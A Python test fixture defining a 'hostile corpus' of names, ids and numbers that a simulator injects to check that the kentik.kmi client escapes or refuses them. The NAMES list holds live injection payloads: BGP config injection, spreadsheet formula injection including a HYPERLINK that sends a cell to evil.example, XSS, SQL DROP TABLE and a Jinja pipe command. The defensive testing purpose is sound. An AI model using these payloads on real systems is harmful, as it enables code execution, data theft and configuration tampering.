# -*- coding: utf-8 -*-
# Copyright (c) kentik.kmi contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The hostile corpus: names, ids and numbers an API (or whatever answers in its place) could send to break the
files kentik.kmi writes. The simulator's ``hostile`` fault puts them into its answers (apply(), called by
server.py); the unit and integration tests check every output format against them.

NAMES are valid JSON strings and valid proto strings: the client must keep them as text, cleaned, and the roles must
escape them. BAD_IDS, BAD_ASNS and BAD_COUNTS are values the client must refuse, each with one clear error.
"""

from __future__ import annotations

import copy

# A name that is a Jinja expression: whatever shows it must show it as it is, never template it.
JINJA = "{{ lookup('pipe', 'id') }} {% raw %}"
# Text for AS names, market names, country names and insight messages.
NAMES = (
    "EVIL\nprotocol bgp injected { neighbor 6.6.6.6 as 666; }",
    "EVIL\r\nbgp as-path access-list KMI-PEERLOCK seq 1 permit .*",
    "EVIL\rroute-map KMI-PEERLOCK-IN permit 1",
    "}; protocol bgp x { neighbor 6.6.6.6 as 666; }; #",
    "\"; neighbor 6.6.6.6 as 666; description \"",
    "close */ /* open",
    "back\\slash\\\" quote",
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+2",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>owned</h1>",
    "a | b | c",
    "`code` and ``more``",
    "**bold** _it_ [link](javascript:alert(1)) ![img](http://x/)",
    "&lt;script&gt; &#60;b&#62;",
    "$x^2$ ~~strike~~",
    "NUL\x00BYTE",
    "BELL\x07ESC\x1b[31mRED\x1b[0m",
    "DEL\x7fC1\x85\x9bEND",
    "\u202egnp.exe\u202c RTL override",
    "LINE\u2028SEP\u2029PARA",
    "\u2066isolate\u2069 \u200fmark\u061c",
    "\ufeffBOM start",
    "Ελληνικά 日本語 Türk Telekom \U0001f600",
    "# heading\n> quote\n- item",
    "X" * 10240,
    "",
    "   ",
    "'; DROP TABLE asn; --",
    JINJA,
)

# Market ids the client must refuse (they would land in URL paths, file names and configuration comments).
BAD_IDS = (
    "..",
    ".",
    "",
    "us\nprotocol bgp injected { }",
    "a/b",
    "a b",
    "a;b",
    "a}b",
    "<script>",
    "`id`",
    "x|y",
    "=1+2",
    "a\x00b",
    "\u202eus",
    "caf\u00e9",
)

# AS numbers out of 1..4294967295, and counts out of uint32, as JSON numbers and as the gateway's strings.
BAD_ASNS = (0, "0", -5, "-5", "-7691730781423667", 2 ** 32, "4294967296", 2 ** 70)
BAD_COUNTS = (-1, "-1", 2 ** 32, "18446744073709551616")

# The text fields of KMI answers (snake_case, before the gateway's encoding).
TEXT_FIELDS = ("name", "country_name", "message")


def _walk(value):
    """Every dict in ``value``, depth first, in answer order."""
    if isinstance(value, dict):
        yield value
        for item in value.values():
            yield from _walk(item)
    elif isinstance(value, list):
        for item in value:
            yield from _walk(item)


def texts(value):
    """Every name, country name and message in ``value``: an answer of the simulator, or what a client made of one."""
    for item in _walk(value):
        for key in TEXT_FIELDS:
            if isinstance(item.get(key), str):
                yield item[key]


def apply(fault, answer):
    """``answer`` (the simulator's, snake_case) made hostile as the ``hostile`` fault says; a new object.

    names: true     every name, country name and message, in answer order, is the next string of NAMES (from
                    ``offset``, default 0, cycling)
    market_id: str  every market id in the answer is that string
    field, value    the first object in the answer that has ``field`` gets ``value`` (an AS number or a count out of
                    range, say); ``field`` names a snake_case field (asn, score, invalid_count, ...)
    """
    answer = copy.deepcopy(answer)
    position = int(fault.get("offset", 0))
    for item in _walk(answer):
        if fault.get("names"):
            for key in TEXT_FIELDS:
                if key in item:
                    item[key] = NAMES[position % len(NAMES)]
                    position += 1
        if "market_id" in fault and "market_id" in item:
            item["market_id"] = fault["market_id"]
    if "field" in fault:
        for item in _walk(answer):
            if fault["field"] in item:
                item[fault["field"]] = fault["value"]
                break
    return answer
